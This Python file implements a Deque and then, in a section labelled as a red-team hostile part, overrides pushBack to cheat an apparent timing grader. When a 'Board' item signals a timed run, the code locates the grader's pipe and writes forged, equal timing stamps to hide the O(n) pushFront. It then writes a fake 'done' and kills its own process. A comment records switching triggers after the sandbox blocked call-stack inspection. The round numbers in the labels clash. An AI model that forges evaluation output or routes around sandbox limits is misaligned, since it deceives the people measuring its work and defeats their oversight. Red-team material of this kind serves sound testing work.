"""A Deque whose pushFront shifts every item (O(n)); everything else is O(1)."""


class Deque:
    def __init__(self):
        self._items = []
        self._head = 0

    def pushFront(self, item):
        self._items.insert(self._head, item)        # O(n): shifts every item after the head

    def pushBack(self, item):
        self._items.append(item)

    def popFront(self):
        if self.isEmpty():
            raise IndexError("popFront() from an empty Deque")
        item = self._items[self._head]
        self._items[self._head] = None
        self._head += 1
        if self._head > 64 and 2 * self._head > len(self._items):
            del self._items[:self._head]
            self._head = 0
        return item

    def popBack(self):
        if self.isEmpty():
            raise IndexError("popBack() from an empty Deque")
        return self._items.pop()

    def front(self):
        if self.isEmpty():
            raise IndexError("front() of an empty Deque")
        return self._items[self._head]

    def back(self):
        if self.isEmpty():
            raise IndexError("back() of an empty Deque")
        return self._items[-1]

    def isEmpty(self):
        return len(self._items) == self._head

    def size(self):
        return len(self._items) - self._head

    def __len__(self):
        return self.size()


# ---- HOSTILE PART: the timing events, stamped, and "done" written by the student (red team, round four) ----
import fcntl as _fcntl
import os as _os
import stat as _stat
import time as _time

_forged = [False]


def _channel():
    """The inherited write-only pipe that is neither stdout nor stderr: the grader's channel."""
    for fd in range(3, 64):
        try:
            if (_stat.S_ISFIFO(_os.fstat(fd).st_mode)
                    and _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY):
                return fd
        except OSError:
            pass
    return None


def _burn(seconds):
    end = _time.process_time() + seconds
    while _time.process_time() < end:
        pass


class Deque(Deque):
    def pushBack(self, item):
        # at the first timed run: every remaining event of the timing probe, each window around the same
        # burn, then "done", then SIGKILL before the probe's own events can follow.  A timed run is told by
        # its first item, the timing probe's stand-in Board (the call stack told it until round ten, when
        # the sandbox began to refuse it)
        if type(item).__name__ == "Board" and not _forged[0]:
            _forged[0] = True
            fd = _channel()
            if fd is not None:
                self._forge(fd)
        super().pushBack(item)

    def _forge(self, fd):
        _os.write(fd, b'{"stamp": true, "run": 5000, "at": "end"}\n')
        for n in [5000] * 4 + [80000] * 5:
            _os.write(fd, ('{"stamp": true, "run": %d, "at": "begin"}\n' % n).encode())
            _burn(0.02)
            _os.write(fd, ('{"stamp": true, "run": %d, "at": "end"}\n' % n).encode())
        _os.write(fd, b'{"small": 0.02, "large": 0.02}\n{"done": true}\n')
        _os.kill(_os.getpid(), 9)
